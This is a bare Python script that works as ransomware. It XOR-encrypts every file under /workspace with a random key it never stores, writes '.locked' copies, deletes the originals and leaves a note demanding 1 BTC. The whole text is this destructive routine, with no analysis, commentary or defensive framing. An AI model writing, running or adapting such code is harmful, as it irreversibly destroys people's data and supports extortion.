import os
import secrets
from pathlib import Path

key = secrets.token_bytes(32)
for path in Path("/workspace").rglob("*"):
    if path.is_file():
        data = path.read_bytes()
        path.with_name(path.name + ".locked").write_bytes(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        os.unlink(path)
Path("/workspace/READ_ME.txt").write_text("Pay 1 BTC to get your files back.")
